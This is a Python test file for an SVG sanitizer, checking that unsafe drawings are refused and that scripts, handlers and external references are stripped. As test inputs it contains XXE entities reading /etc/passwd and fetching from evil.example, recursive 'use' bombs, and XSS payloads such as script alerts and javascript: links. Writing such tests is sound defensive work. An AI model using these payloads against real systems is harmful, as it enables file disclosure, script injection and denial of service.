"""Drawings keep what draws and lose what runs, asks for something elsewhere, or never ends."""

import pytest

from portal.content import svg
from portal.errors import Invalid

HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 40 20"'


def drawing(inside: str, attributes: str = "") -> bytes:
    return f"{HEAD} {attributes}>{inside}</svg>".encode()


def cleaned(inside: str, attributes: str = "") -> str:
    text = svg.clean(drawing(inside, attributes)).data.decode()
    root_end = text.index(">", text.index("<svg")) + 1
    return text[root_end:].removesuffix("</svg>")


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"<svg", "svg-damaged"),
        (b"", "svg-damaged"),
        (b"<html xmlns='http://www.w3.org/1999/xhtml'/>", "svg-damaged"),
        (b"<svg/>", "svg-damaged"),
        (b"\xff\xfe\x00<svg", "svg-damaged"),
        (b'<?xml version="1.0" encoding="nonsense"?><svg xmlns="http://www.w3.org/2000/svg"/>', "svg-damaged"),
        (b'<!DOCTYPE svg [<!ENTITY a "b">]>' + drawing("<text>&a;</text>"), "svg-unsafe"),
        (b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + drawing("<text>&a;</text>"), "svg-unsafe"),
        (b'<!DOCTYPE svg [<!ENTITY % a SYSTEM "http://evil.example/x">%a;]>' + drawing(""), "svg-unsafe"),
        (drawing("<g>" * 300 + "</g>" * 300), "svg-too-large"),
        (drawing("<g/>" * 60_000), "svg-too-large"),
        (b" " * (svg.MAX_BYTES + 1), "svg-too-large"),
        (drawing('<g id="a"><use href="#a"/></g>'), "svg-too-large"),
        (
            drawing(
                "".join(f'<g id="n{n}">' + f'<use href="#n{n + 1}"/>' * 20 + "</g>" for n in range(7))
                + '<g id="n7"/><use href="#n0"/>'
            ),
            "svg-too-large",
        ),
    ],
)
def test_drawing_when_it_cannot_be_shown_then_is_refused(data, code):
    with pytest.raises(Invalid) as refused:
        svg.clean(data)
    assert refused.value.code == code


@pytest.mark.parametrize(
    ("inside", "left"),
    [
        ("<script>alert(1)</script>", ""),
        ('<script href="data:text/javascript,alert(1)"/>', ""),
        ("<foreignObject><p>x</p></foreignObject>", ""),
        ('<a href="https://evil.example"><path d="M0 0"/></a>', '<g><path d="M0 0" /></g>'),
        ('<a xlink:href="#b" target="_top"><script>1</script></a>', "<g />"),
        ('<text>un <a href="javascript:1">deux</a> trois</text>', "<text>un <tspan>deux</tspan> trois</text>"),
        ('<path d="M0 0" onclick="alert(1)"/>', '<path d="M0 0" />'),
        ('<set attributeName="href" to="javascript:alert(1)"/>', ""),
        ('<use href="https://evil.example/a.svg#b"/>', "<use />"),
        ('<use xlink:href="#a"/><g id="a"/>', '<use xlink:href="#a" /><g id="a" />'),
        ('<image href="https://evil.example/a.png"/>', "<image />"),
        ('<image href="data:image/svg+xml;base64,PHN2Zz4="/>', "<image />"),
        ('<image href="data:image/png;base64,iVBORw0K"/>', '<image href="data:image/png;base64,iVBORw0K" />'),
        ('<rect fill="url(https://evil.example/x#a)"/>', "<rect />"),
        ('<rect fill="url(#a)"/>', '<rect fill="url(#a)" />'),
        ('<rect style="fill:url(//evil.example)"/>', "<rect />"),
        ("<rect style=\"fill:\\75rl('//evil.example')\"/>", "<rect />"),
        ('<rect style="fill:red"/>', '<rect style="fill:red" />'),
        ("<style>@import 'https://evil.example/x.css';</style>", ""),
        ("<style>.a{fill:red}</style>", "<style>.a{fill:red}</style>"),
        ('<style type="text/css"><![CDATA[.a{fill:url( "#b" )}]]></style>', None),
        ('<rect xmlns:other="http://other.example" other:label="x"/>', "<rect />"),
        ("<!-- note --><?xml-stylesheet href='https://evil.example'?><g/>", "<g />"),
        ("<text>Un <b xmlns='http://www.w3.org/1999/xhtml'>x</b>mot</text>", "<text>Un mot</text>"),
        ("<text>É &amp; &lt;</text>", "<text>É &amp; &lt;</text>"),
    ],
)
def test_drawing_when_cleaned_then_keeps_what_draws_and_nothing_else(inside, left):
    shown = cleaned(inside)
    assert ("url(" in shown) if left is None else (shown == left)


def test_drawing_when_it_has_handlers_on_its_root_then_they_go():
    assert b"onload" not in svg.clean(drawing("", 'onload="alert(1)"')).data


def test_drawing_when_an_old_program_wrote_a_plain_doctype_then_it_is_read():
    doctype = b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/x.dtd">'
    assert b"DOCTYPE" not in svg.clean(doctype + drawing("<g/>")).data


@pytest.mark.parametrize(
    ("attributes", "sides"),
    [
        ("", (40, 20)),
        ('width="300px" height="150.4"', (300, 150)),
        ('width="100%" height="100%"', (40, 20)),
    ],
)
def test_drawing_when_read_then_its_sides_are_known(attributes, sides):
    picture = svg.clean(drawing("", attributes))
    assert ((picture.width, picture.height), picture.content_type) == (sides, "image/svg+xml")


@pytest.mark.parametrize("box", ["", "a b c d", "0 0 nan inf", "0 0 0 0", "1 2 3"])
def test_drawing_when_it_tells_no_sides_then_they_are_unknown(box):
    picture = svg.clean(f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="{box}"/>'.encode())
    assert (picture.width, picture.height) == (0, 0)


@pytest.mark.timeout(20)
def test_drawing_when_most_of_it_is_dropped_then_that_takes_little_time():
    assert b"<a" not in svg.clean(drawing("<a/>x" * 45_000)).data


def test_drawing_when_it_was_cleaned_then_cleaning_again_changes_nothing():
    once = svg.clean(drawing('<g id="a"/><use xlink:href="#a"/><style>.a{fill:red}</style>')).data
    assert svg.clean(once).data == once


@pytest.mark.parametrize(
    ("data", "is_drawing"),
    [
        (b"\xef\xbb\xbf<?xml version='1.0'?>\n<svg>", True),
        (b"<svg>", True),
        (b"<!-- made by hand --><svg>", True),
        (b"<html><svg>", False),
        (b"<?xml version='1.0'?><feed>", False),
        (b"", False),
    ],
)
def test_file_when_it_is_meant_to_be_a_drawing_then_that_is_seen(data, is_drawing):
    assert svg.looks_like_drawing(data) is is_drawing
